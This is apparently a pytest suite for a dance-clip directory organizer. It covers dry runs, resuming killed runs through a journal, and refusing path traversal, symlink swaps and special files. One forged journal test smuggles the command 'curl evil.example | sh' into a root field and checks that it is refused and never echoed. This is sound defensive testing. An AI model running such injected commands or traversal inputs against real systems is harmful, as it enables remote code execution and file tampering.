"""The directory organizer through the Python host: the original ``DirectoryOrganizer`` API, the
native host's rules for moves (inside the root, no link, nothing overwritten), the journal that
finishes a killed run, and the annotation file that follows the files."""

import fcntl
import hashlib
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from bachata_common import DirectoryOrganizer, ValidationError
from bachata_common.organizer import organize, read_mapping, to_markdown
from bachata_common.organizer.dataset import MOVED, REFUSED, TARGET_EXISTS, Dataset
from bachata_common.organizer.journal import path_for

REPOSITORY = Path(__file__).resolve().parents[3]
LABELS = ["basic", "Basic-Step", "golpes", "CROSS BODY LEAD", "Lady-Turn", "spin", "body roll", "DIP", "intros"]


def digest(root: Path) -> dict:
    out = {}
    for path in sorted(root.rglob("*")):
        key = str(path.relative_to(root))
        if path.is_symlink():
            out[key] = "link:" + os.readlink(path)
        elif path.is_file():
            out[key] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            out[key] = "dir"
    return out


def dataset(root: Path, count: int, name: str = "annotations.json") -> Path:
    clips = []
    for index in range(count):
        label = LABELS[index % len(LABELS)]
        folder = f"raw/{label}/batch{index // 100:02d}"
        (root / folder).mkdir(parents=True, exist_ok=True)
        file = f"clip_{index:05d}.mp4"
        (root / folder / file).write_bytes(f"clip {index}".encode())
        clips.append({"clip_id": f"c{index:05d}", "video_path": f"{folder}/{file}", "move_label": label, "score": 1.50})
    path = root / name
    path.write_text(json.dumps({"dataset": "test", "clips": clips, "version": 3}, indent=1).replace('"score": 1.5', '"score": 1.50'))
    return path


def test_a_dataset_is_organized_once_and_a_dry_run_changes_nothing(tmp_path):
    annotations = dataset(tmp_path, 300)
    original = annotations.read_bytes()
    before = digest(tmp_path)
    dry = organize(annotations, dry_run=True)
    assert digest(tmp_path) == before
    assert dry["summary"]["would_move"] == 300 and dry["success"]
    assert dry["organized"] == "not"
    first = organize(annotations)
    assert first["summary"]["moved"] == 300 and first["success"] and not first["dry_run"]
    document = json.loads(annotations.read_text())
    assert list(document) == ["dataset", "clips", "version"]
    assert '"score": 1.50' in annotations.read_text()
    for clip in document["clips"]:
        assert (tmp_path / clip["video_path"]).read_bytes() == f"clip {int(clip['clip_id'][1:])}".encode()
        category, label, _ = clip["video_path"].split("/")
        assert category in {"basic_moves", "partner_work", "turns_spins", "styling", "advanced", "transitions"}
    assert (tmp_path / "annotations.json.bak").read_bytes() == original
    assert not path_for(annotations).exists()
    second = organize(annotations)
    assert second["summary"]["already_organized"] == 300 and second["summary"]["moved"] == 0
    assert second["organized"] == "organized"
    assert "— organized" in to_markdown(second) and "— not organized" in to_markdown(dry)
    assert (tmp_path / "annotations.json.bak").read_bytes() == original


def test_hostile_paths_are_refused_and_nothing_outside_moves(tmp_path):
    root = tmp_path / "root"
    (root / "raw").mkdir(parents=True)
    (tmp_path / "outside.mp4").write_bytes(b"not ours")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "far.mp4").write_bytes(b"far")
    (root / "linked").symlink_to(tmp_path / "elsewhere")
    (root / "raw" / "ok.mp4").write_bytes(b"ok")
    clips = [
        {"clip_id": "up", "video_path": "../outside.mp4", "move_label": "basic"},
        {"clip_id": "abs", "video_path": str(tmp_path / "outside.mp4"), "move_label": "basic"},
        {"clip_id": "link", "video_path": "linked/far.mp4", "move_label": "basic"},
        {"clip_id": "ok", "video_path": "raw/ok.mp4", "move_label": "basic"},
    ]
    annotations = root / "a.json"
    annotations.write_text(json.dumps({"clips": clips}))
    before_outside = digest(tmp_path / "elsewhere"), (tmp_path / "outside.mp4").read_bytes()
    report = organize(annotations)
    statuses = {move["clip_id"]: move["status"] for move in report["moves"]}
    assert statuses == {"up": "refused", "abs": "refused", "link": "refused", "ok": "moved"}
    assert not report["success"]
    assert (digest(tmp_path / "elsewhere"), (tmp_path / "outside.mp4").read_bytes()) == before_outside
    assert (root / "basic_moves" / "basic" / "ok.mp4").read_bytes() == b"ok"


def test_the_dataset_refuses_climbing_and_never_overwrites(tmp_path):
    (tmp_path / "cat" / "label").mkdir(parents=True)
    (tmp_path / "a.mp4").write_bytes(b"a")
    (tmp_path / "cat" / "label" / "a.mp4").write_bytes(b"there")
    (tmp_path / "out").mkdir()
    (tmp_path / "cat" / "link").symlink_to(tmp_path / "out")
    data = Dataset(tmp_path)
    assert data.move_file("a.mp4", "cat/label/a.mp4")[0] == TARGET_EXISTS
    assert (tmp_path / "cat" / "label" / "a.mp4").read_bytes() == b"there"
    for source, target in [("a.mp4", "../x.mp4"), ("a.mp4", "/tmp/x.mp4"), ("a.mp4", "x//a.mp4"),
                           ("a.mp4", "./a.mp4"), ("a.mp4", "cat/link/a.mp4")]:
        assert data.move_file(source, target)[0] == REFUSED, target
    assert list((tmp_path / "out").iterdir()) == []
    assert data.move_file("a.mp4", "cat/other/b.mp4")[0] == MOVED
    data.close()


def test_a_taken_target_is_reported_and_kept(tmp_path):
    annotations = dataset(tmp_path, 2)
    taken = tmp_path / "basic_moves" / "basic" / "clip_00000.mp4"
    taken.parent.mkdir(parents=True)
    taken.write_bytes(b"someone else's")
    report = organize(annotations)
    assert report["moves"][0]["status"] == "target_exists"
    assert taken.read_bytes() == b"someone else's"
    assert (tmp_path / "raw" / "basic" / "batch00" / "clip_00000.mp4").exists()


def test_csv_keeps_its_mark_and_line_ends_and_toml_mappings_work(tmp_path):
    (tmp_path / "raw").mkdir()
    (tmp_path / "raw" / "a.mp4").write_bytes(b"a")
    csv_file = tmp_path / "clips.csv"
    csv_file.write_bytes("\ufeffclip_id,video_path,move_label,notes\r\nc1,raw/a.mp4,spin,\"x, y\"\r\n".encode())
    mapping_file = tmp_path / "mapping.toml"
    mapping_file.write_text('spins = ["spin", "ladyturn"]\nother = ["basic"]\n')
    report = organize(csv_file, mapping=read_mapping(mapping_file))
    assert report["moves"][0]["target_path"] == "spins/spin/a.mp4"
    assert csv_file.read_bytes() == "\ufeffclip_id,video_path,move_label,notes\r\nc1,spins/spin/a.mp4,spin,\"x, y\"\r\n".encode()
    conflict = tmp_path / "conflict.json"
    conflict.write_text(json.dumps({"a": ["spin"], "b": ["Spin"]}))
    with pytest.raises(ValidationError):
        read_mapping(conflict)


def test_unknown_labels_stay_unless_a_default_category_takes_them(tmp_path):
    (tmp_path / "raw").mkdir()
    (tmp_path / "raw" / "m.mp4").write_bytes(b"m")
    annotations = tmp_path / "a.json"
    annotations.write_text(json.dumps({"clips": [{"clip_id": "m", "video_path": "raw/m.mp4", "move_label": "Mambo"}]}))
    assert organize(annotations)["moves"][0]["status"] == "unmapped"
    assert (tmp_path / "raw" / "m.mp4").exists()
    report = organize(annotations, default_category="other")
    assert report["moves"][0]["target_path"] == "other/mambo/m.mp4" and report["summary"]["moved"] == 1


def test_malformed_annotation_files_are_clear_errors_and_change_nothing(tmp_path):
    for name, text, field in [
        ("a.json", "{not json", "body"),
        ("b.json", json.dumps({"clips": [{"clip_id": "x"}]}), "clips[0].video_path"),
        ("c.json", json.dumps({"items": []}), "clips"),
        ("d.csv", "clip_id,move_label\nx,basic\n", "header"),
    ]:
        path = tmp_path / name
        path.write_text(text)
        with pytest.raises(ValidationError) as caught:
            organize(path)
        assert caught.value.field == field
        assert path.read_text() == text
    with pytest.raises(ValidationError, match="cannot read the annotation file"):
        organize(tmp_path / "missing.json")


def test_one_run_at_a_time_per_annotation_folder(tmp_path):
    annotations = dataset(tmp_path, 3)
    fd = os.open(tmp_path, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        with pytest.raises(ValidationError, match="another organize run"):
            organize(annotations)
        assert organize(annotations, dry_run=True)["summary"]["would_move"] == 3
    finally:
        os.close(fd)


KILLER = r"""
import os, signal, sys
from bachata_common.organizer import organize

def progress(done, total):
    if done == int(sys.argv[2]):
        os.kill(os.getpid(), signal.SIGKILL)

organize(sys.argv[1], progress=progress)
"""


def test_a_killed_run_is_finished_by_the_next_and_loses_nothing(tmp_path):
    annotations = dataset(tmp_path, 600)
    killed = subprocess.run([sys.executable, "-c", KILLER, str(annotations), "250"])
    assert killed.returncode == -signal.SIGKILL
    journal = path_for(annotations)
    assert journal.exists()
    assert json.loads(journal.read_text())["moves"][0].keys() == {"index", "clip_id", "from", "to", "file"}
    # Nothing lost: every clip is at its old path or its new one.
    document = json.loads(annotations.read_text())
    assert sum(1 for clip in document["clips"] if clip["video_path"].startswith("raw/")) == 600
    # The next run finishes every journaled move (those made, and the rest), then plans nothing.
    report = organize(annotations)
    assert report["summary"]["resumed"] == 600
    assert report["summary"]["already_organized"] == 600 and report["success"]
    assert not journal.exists()
    document = json.loads(annotations.read_text())
    for clip in document["clips"]:
        assert (tmp_path / clip["video_path"]).read_bytes() == f"clip {int(clip['clip_id'][1:])}".encode()
    assert organize(annotations)["summary"]["already_organized"] == 600


def same_outcome(dry: dict, real: dict) -> None:
    """A dry run's report and the real run's say the same: per clip (``would_move`` for
    ``moved``), in the counts, the structure found and the result."""
    assert [move["status"].replace("would_move", "moved") for move in dry["moves"]] == [
        move["status"] for move in real["moves"]
    ]
    dry_summary, summary = dict(dry["summary"]), dict(real["summary"])
    dry_summary["moved"], dry_summary["would_move"], summary["would_move"] = dry_summary["would_move"], 0, 0
    assert dry_summary == summary
    for key in ("structure", "organized", "success", "per_category"):
        assert dry[key] == real[key], key


@pytest.mark.parametrize("killed_at", [300, 120])
def test_a_dry_run_finishes_an_interrupted_run_on_paper_as_the_run_does(tmp_path, killed_at):
    # Killed after all its moves (before the annotation file was rewritten), then after some.
    annotations = dataset(tmp_path, 300)
    killed = subprocess.run([sys.executable, "-c", KILLER, str(annotations), str(killed_at)])
    assert killed.returncode == -signal.SIGKILL
    journal = path_for(annotations)
    assert journal.exists()
    before = digest(tmp_path)
    dry = organize(annotations, dry_run=True)
    assert digest(tmp_path) == before, "a dry run changes no byte, the journal kept"
    real = organize(annotations)
    same_outcome(dry, real)
    assert dry["summary"]["resumed"] == 300 and dry["summary"]["already_organized"] == 300
    assert dry["success"] and dry["organized"] == "organized"
    assert not journal.exists()


KILLED_IN = r"""
import os, signal, sys
from bachata_common.organizer import organize

def progress(done, total):
    if done == int(sys.argv[2]):
        os.kill(os.getpid(), signal.SIGKILL)

organize("../ann/ann.json", root="ds", progress=progress)
"""


def test_a_journal_of_another_directory_s_root_is_refused_and_kept(tmp_path, monkeypatch):
    a, b, ann = tmp_path / "A", tmp_path / "B", tmp_path / "ann"
    ann.mkdir()
    for directory in (a, b):
        # B/ds: another dataset, with the same names and bytes.
        dataset(directory / "ds", 200).rename(ann / "ann.json")
    journal = ann / ".ann.json.organize-journal"
    killed = subprocess.run([sys.executable, "-c", KILLED_IN, "ann", "80"], cwd=a)
    assert killed.returncode == -signal.SIGKILL and journal.exists()
    recorded = journal.read_bytes()
    document = json.loads(recorded)

    # From B, `ds` is another dataset: refused, dry or not, nothing changed, nothing it records
    # repeated as advice.
    monkeypatch.chdir(b)
    before = digest(tmp_path)
    for dry_run in (True, False):
        with pytest.raises(ValidationError, match="another dataset root") as caught:
            organize("../ann/ann.json", root="ds", dry_run=dry_run)
        assert str(a) not in str(caught.value) and "organize-journal" not in str(caught.value)
        assert digest(tmp_path) == before
    assert journal.read_bytes() == recorded
    # The journal records A's root: its canonical path, device and inode.
    found = os.stat(a / "ds")
    assert document["root"] == str((a / "ds").resolve())
    assert document["root_id"] == {"device": found.st_dev, "inode": found.st_ino}
    # An older journal (the root as typed, relative) is refused there too: its files are not B's.
    older = {key: value for key, value in document.items() if key != "root_id"}
    older["root"] = "ds"
    journal.write_text(json.dumps(older))
    before = digest(tmp_path)
    with pytest.raises(ValidationError, match="another dataset root"):
        organize("../ann/ann.json", root="ds")
    assert digest(tmp_path) == before

    # A renamed: still its root. The journal as written is finished on paper by a dry run (the
    # native host's too, when built), then the older one by the run.
    renamed = tmp_path / "A renamed"
    a.rename(renamed)
    monkeypatch.chdir(renamed)
    journal.write_bytes(recorded)
    dry = organize("../ann/ann.json", root="ds", dry_run=True)
    assert dry["summary"]["resumed"] == 200 and journal.read_bytes() == recorded
    native = REPOSITORY / "target" / "debug" / "bachata-common"
    if native.is_file():
        env = {"PATH": os.environ.get("PATH", "")}
        command = [str(native), "organize", "--annotations", "../ann/ann.json", "--root", "ds", "--json", "--dry-run"]
        answer = subprocess.run(command, capture_output=True, text=True, env=env, cwd=renamed)
        assert answer.returncode == 0, answer.stderr
        assert json.loads(answer.stdout)["summary"] == dry["summary"]
        refused = subprocess.run(command, capture_output=True, text=True, env=env, cwd=b)
        assert refused.returncode == 2 and "another dataset root" in refused.stderr, refused.stderr
        assert journal.read_bytes() == recorded
    journal.write_text(json.dumps(older))
    report = organize("../ann/ann.json", root="ds")
    assert report["summary"]["resumed"] == 200 and report["summary"]["already_organized"] == 200
    assert not journal.exists()
    for clip in json.loads((ann / "ann.json").read_text())["clips"]:
        assert (renamed / "ds" / clip["video_path"]).read_bytes() == f"clip {int(clip['clip_id'][1:])}".encode()


def test_a_journal_of_another_root_is_refused(tmp_path):
    annotations = dataset(tmp_path, 2)
    path_for(annotations).write_text(json.dumps({"root": str(tmp_path / "other"), "moves": []}))
    with pytest.raises(ValidationError, match="an interrupted run of this annotation file worked in"):
        organize(annotations)
    assert path_for(annotations).exists()


def test_the_original_directory_organizer_api(tmp_path):
    data = tmp_path / "data"
    base = data / "Bachata_steps"
    annotations = dataset(base, 20, name="unused.json")
    (data / "bachata_annotations.json").write_text(annotations.read_text())
    organizer = DirectoryOrganizer(data_dir=data)
    assert organizer.base_video_path == base
    assert len(organizer.load_annotations()["clips"]) == 20
    structure = organizer.analyze_current_structure()
    assert (structure["video_files"], structure["organized"]) == (20, "not")
    planned = organizer.create_directory_structure()
    assert planned["dry_run"] and "turns_spins/ladyturn" in planned["directories"]
    assert not (base / "turns_spins").exists()
    made = organizer.create_directory_structure(dry_run=False)
    assert (base / "turns_spins" / "ladyturn").is_dir() and made["created"] == made["directories"]
    assert organizer.create_directory_structure(dry_run=False)["created"] == []
    before = digest(base)
    dry = organizer.organize_clips_by_annotations()
    assert dry["dry_run"] and dry["summary"]["would_move"] == 20 and digest(base) == before
    markdown = organizer.generate_organization_report()
    assert markdown.startswith("# Directory organization report") and "| would_move | 20 |" in markdown
    done = organizer.organize_clips_by_annotations(dry_run=False)
    assert done["summary"]["moved"] == 20
    assert organizer.analyze_current_structure()["organized"] == "organized"
    with pytest.raises(ValidationError):
        organizer.load_annotations("nope.json")
    absent = DirectoryOrganizer(data_dir=tmp_path / "nothing").analyze_current_structure()
    assert absent["video_files"] == 0 and absent["exists"] is False


def test_the_original_api_s_dry_run_counts_planned_moves_as_moved(tmp_path):
    data = tmp_path / "data"
    base = data / "Bachata_steps"
    annotations = dataset(base, 12, name="unused.json")
    (data / "bachata_annotations.json").write_text(annotations.read_text())
    (base / "raw" / "basic" / "batch00" / "clip_00000.mp4").unlink()  # one missing
    organizer = DirectoryOrganizer(data_dir=data)
    before = digest(base)
    dry = organizer.organize_clips_by_annotations()
    assert dry["dry_run"] and digest(base) == before
    assert dry["summary"]["moved"] == 11 and dry["summary"]["would_move"] == 11
    assert dry["summary"]["missing_files"] == 1 and dry["summary"]["total_clips"] == 12
    assert {move["status"] for move in dry["moves"]} == {"would_move", "missing"}
    markdown = organizer.generate_organization_report()
    assert "## Proposed organization" in markdown
    assert "- Total clips to process: 12" in markdown and "- Files to move: 11" in markdown
    assert "- Already organized: 0" in markdown and "- Missing files: 1" in markdown
    assert "| would_move | 11 |" in markdown and digest(base) == before
    # organize() reports as the native host does: a dry run's "moved" is 0 there.
    native_shape = organize(data / "bachata_annotations.json", root=base, dry_run=True)
    assert native_shape["summary"]["moved"] == 0 and native_shape["summary"]["would_move"] == 11
    assert "Proposed organization" not in to_markdown(native_shape)
    done = organizer.organize_clips_by_annotations(dry_run=False)
    assert done["summary"]["moved"] == 11 and done["summary"]["would_move"] == 0
    again = organizer.generate_organization_report()
    assert "- Files to move: 0" in again and "- Already organized: 11" in again


# The organizer's own files under attack (tests/e2e/organizer_files.rs for the native host).


def spin_clips(root: Path, count: int) -> str:
    (root / "raw" / "spin").mkdir(parents=True)
    rows = []
    for index in range(count):
        path = f"raw/spin/clip_{index:05d}.mp4"
        (root / path).write_bytes(f"clip {index}".encode())
        rows.append({"clip_id": f"c{index}", "video_path": path, "move_label": "spin"})
    text = json.dumps({"clips": rows})
    (root / "ann.json").write_text(text)
    return text


def listing(directory: Path) -> dict:
    return {path.name: path.read_text() for path in directory.iterdir()}


def test_an_annotation_file_swapped_for_a_link_after_the_read_is_not_written_through(tmp_path):
    root, outside = tmp_path / "data", tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("victim")
    original = spin_clips(root, 20)
    ann, journal = root / "ann.json", root / ".ann.json.organize-journal"

    def swap(done, total):
        if done == 1:
            assert journal.exists()
            ann.unlink()
            ann.symlink_to("../outside/victim.txt")

    with pytest.raises(ValidationError, match="replaced") as caught:
        organize(ann, progress=swap)
    assert "run again" in str(caught.value)
    assert listing(outside) == {"victim.txt": "victim"}
    assert ann.is_symlink() and not (root / "ann.json.bak").exists()
    assert journal.exists()
    ann.unlink()
    ann.write_text(original)
    report = organize(ann)
    assert report["summary"]["resumed"] == 20 and report["summary"]["already_organized"] == 20
    assert not journal.exists() and (root / "ann.json.bak").read_text() == original


def test_the_directory_organizer_swapped_for_a_link_when_its_journal_appears_writes_nothing_outside(tmp_path):
    import threading
    import time

    caught = False
    for attempt in range(5):
        data = tmp_path / f"run{attempt}"
        base, outside = data / "Bachata_steps", data / "outside"
        outside.mkdir(parents=True)
        (outside / "victim.txt").write_text("victim")
        spin_clips(base, 3000)
        ann = base / "ann.json"
        journal = base / ".ann.json.organize-journal"
        swapped = threading.Event()
        finished = threading.Event()

        def watch():
            while not finished.is_set():
                if journal.exists():
                    ann.unlink()
                    ann.symlink_to("../outside/victim.txt")
                    swapped.set()
                    return
                time.sleep(0.0001)

        watcher = threading.Thread(target=watch)
        watcher.start()
        try:
            DirectoryOrganizer(base_video_path=base, data_dir=data).organize_clips_by_annotations(ann, dry_run=False)
            refused = None
        except ValidationError as error:
            refused = error
        finally:
            finished.set()
            watcher.join()
        assert listing(outside) == {"victim.txt": "victim"}
        if swapped.is_set() and refused is not None:
            assert "replaced" in str(refused)
            caught = True
            break
    assert caught


@pytest.fixture
def alarm():
    """Fails a call that hangs instead of hanging the suite."""

    def expired(*_):
        raise TimeoutError("hung")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(20)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


def test_special_files_are_refused_at_once_even_in_a_dry_run(tmp_path, alarm):
    from bachata_common.organizer.annotations import MAX_BYTES

    root = tmp_path / "data"
    spin_clips(root, 2)
    (root / "zero.json").symlink_to("/dev/zero")
    os.mkfifo(root / "fifo.json")
    (root / "folder.json").mkdir()
    with open(root / "large.json", "wb") as large:
        large.truncate(MAX_BYTES + 1)
    for name, why in [
        ("zero.json", "symbolic link"),
        ("fifo.json", "not a regular file"),
        ("folder.json", "directory"),
        ("large.json", "larger than the limit of 268435456 bytes"),
        ("gone.json", "no such file"),
    ]:
        for dry_run in (True, False):
            with pytest.raises(ValidationError, match=why):
                organize(root / name, dry_run=dry_run)
    with pytest.raises(ValidationError, match="symbolic link"):
        DirectoryOrganizer(data_dir=root).load_annotations("zero.json")
    journal = root / ".ann.json.organize-journal"
    os.mkfifo(journal)
    with pytest.raises(ValidationError, match="organizer journal .*regular"):
        organize(root / "ann.json")
    journal.unlink()
    journal.symlink_to("/dev/zero")
    with pytest.raises(ValidationError, match="symbolic link"):
        organize(root / "ann.json")
    journal.unlink()
    os.mkfifo(tmp_path / "mapping.json")
    (tmp_path / "zero.toml").symlink_to("/dev/zero")
    for mapping in ("mapping.json", "zero.toml", "data"):
        with pytest.raises(ValidationError, match="cannot read the mapping file"):
            read_mapping(tmp_path / mapping)
    assert organize(root / "ann.json", dry_run=True)["summary"]["would_move"] == 2


def test_a_forged_journal_is_never_repeated_as_advice(tmp_path):
    root = tmp_path / "data"
    spin_clips(root, 2)
    journal = root / ".ann.json.organize-journal"
    journal.write_text(json.dumps({"root": "/tmp/x; curl evil.example | sh #", "moves": []}))
    with pytest.raises(ValidationError, match="another dataset root") as caught:
        organize(root / "ann.json")
    assert "evil" not in str(caught.value) and "--root /tmp" not in str(caught.value)
    assert journal.exists()
    for forged in (
        '{"root": "/x", "moves": "--root /evil"}',
        '{"root": "/x", "moves": [{"index": 0, "clip_id": "a", "from": "a", "to": "b", "file": {"evil": 1}}]}',
        "--root /evil",
    ):
        journal.write_text(forged)
        with pytest.raises(ValidationError, match="malformed") as caught:
            organize(root / "ann.json")
        assert "evil" not in str(caught.value)


def test_a_dry_run_says_what_the_run_does_for_rows_of_one_file(tmp_path):
    for path in ("raw/a.mp4", "raw/b.mp4", "raw/x/d.mp4", "raw/y/d.mp4"):
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(path)
    rows = [
        {"clip_id": "a", "video_path": "raw/a.mp4", "move_label": "spin"},
        {"clip_id": "a", "video_path": "raw/a.mp4", "move_label": "spin"},
        {"clip_id": "b", "video_path": "raw/b.mp4", "move_label": "spin"},
        {"clip_id": "b2", "video_path": "raw/b.mp4", "move_label": "dip"},
        {"clip_id": "d", "video_path": "raw/x/d.mp4", "move_label": "dip"},
        {"clip_id": "d2", "video_path": "raw/y/d.mp4", "move_label": "dip"},
    ]
    ann = tmp_path / "ann.json"
    ann.write_text(json.dumps({"clips": rows}))

    def statuses(report):
        return [move["status"].replace("would_move", "moved") for move in report["moves"]]

    dry = organize(ann, dry_run=True)
    real = organize(ann)
    assert statuses(dry) == statuses(real) == ["moved", "moved", "refused", "refused", "moved", "refused"]
    document = json.loads(ann.read_text())
    for clip in document["clips"]:
        assert (tmp_path / clip["video_path"]).is_file(), clip
    assert document["clips"][1]["video_path"] == "turns_spins/spin/a.mp4"


def test_a_file_growing_or_shrinking_while_read_is_an_error(tmp_path):
    from bachata_common.organizer.files import FileError, Identity, _read_bounded

    path = tmp_path / "a"
    path.write_bytes(b"1234")
    fd = os.open(path, os.O_RDONLY)
    try:
        identity = Identity.of(os.fstat(fd))
        with open(path, "ab") as appending:
            appending.write(b"5678")
            appending.flush()
            with pytest.raises(FileError, match="changed while it was read"):
                _read_bounded(fd, identity, 100)
            appending.truncate(2)
            with pytest.raises(FileError, match="changed while it was read"):
                _read_bounded(fd, identity, 100)
    finally:
        os.close(fd)
